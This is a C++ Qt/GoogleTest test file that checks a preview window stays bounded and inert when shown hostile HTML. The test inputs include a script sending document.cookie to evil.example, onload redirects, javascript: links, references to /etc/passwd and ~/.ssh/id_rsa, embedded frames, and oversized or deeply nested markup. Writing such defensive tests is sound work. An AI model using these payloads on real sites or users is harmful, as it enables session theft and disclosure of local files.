#include "previewfixture.h"

#include "preview/previewgeometry.h"

#include <QTextDocument>

#include <ostream>

using namespace Qt::StringLiterals;

namespace {

QString repeated(const QString &piece, int times)
{
    QString text;
    text.reserve(piece.size() * times);
    for (int i = 0; i < times; ++i)
        text += piece;
    return text;
}

struct Hostile {
    const char *name;
    QString content;
    // Text that must not reach the screen.
    QString hidden;
};

void PrintTo(const Hostile &value, std::ostream *out)
{
    *out << value.name;
}

// Entries written to do harm or to stall the preview: each opens, shows what it can within its
// bounds, and does nothing else (no link opened, nothing fetched, nothing local read).
class HostileContentTest : public PreviewFixture, public ::testing::WithParamInterface<Hostile> {
protected:
    HostileContentTest() { makePreview(); }
};

} // namespace

TEST_P(HostileContentTest, opensWithinItsBoundsAndDoesNothingElse)
{
    const auto item = entry(u"Hostile"_s, GetParam().content);
    show(item, middleLeft());

    EXPECT_TRUE(preview->window()->isVisible());
    EXPECT_EQ(preview->dataItem(), item);
    EXPECT_LE(preview->window()->height(), PreviewGeometry::maximumWindowHeight);
    EXPECT_LT(view().document()->characterCount(), 64 * 1024);
    const QString text = view().toPlainText();
    EXPECT_TRUE(text.contains(u"Hostile"_s));
    if (!GetParam().hidden.isEmpty()) {
        EXPECT_FALSE(text.contains(GetParam().hidden));
    }
    EXPECT_EQ(view().images().loadsStarted(), 0);
    EXPECT_TRUE(opened.urls.isEmpty());
}

INSTANTIATE_TEST_SUITE_P(
    Preview, HostileContentTest,
    ::testing::Values(
        Hostile{"script",
                u"<p>x</p><script>document.location='https://evil.example/'+document.cookie</script>"_s,
                u"evil.example"_s},
        Hostile{"style", u"<style>p { color: white; font-size: 300px }</style><p>invisible?</p>"_s,
                u"color"_s},
        Hostile{"onload",
                u"<body onload=\"location='https://evil.example/'\"><img src=\"x.png\" onerror=\"a()\">"_s,
                u"evil"_s},
        Hostile{"nested_tables", repeated(u"<table><tr><td>cell"_s, 3000), QString()},
        Hostile{"five_megabytes_of_text", repeated(u"All work and no play makes Jack a dull boy. "_s, 120000),
                QString()},
        Hostile{"one_endless_word", QString(2 * 1024 * 1024, u'w'), QString()},
        Hostile{"a_million_elements", repeated(u"<b>"_s, 1000000), QString()},
        Hostile{"local_and_script_links",
                u"<a href=\"javascript:alert(1)\">js</a> <a href=\"file:///etc/passwd\">file</a> "
                u"<img src=\"file:///etc/hostname\"><img src=\"../../.ssh/id_rsa\">"
                u"<link rel=\"stylesheet\" href=\"/etc/passwd\">"_s,
                u"root:"_s},
        Hostile{"iframe_and_object",
                u"<iframe src=\"https://evil.example/\"></iframe><object "
                u"data=\"https://evil.example/x\"></object>"
                u"<embed src=\"file:///etc/passwd\">"_s,
                u"root:"_s}),
    [](const auto &param) { return std::string(param.param.name); });
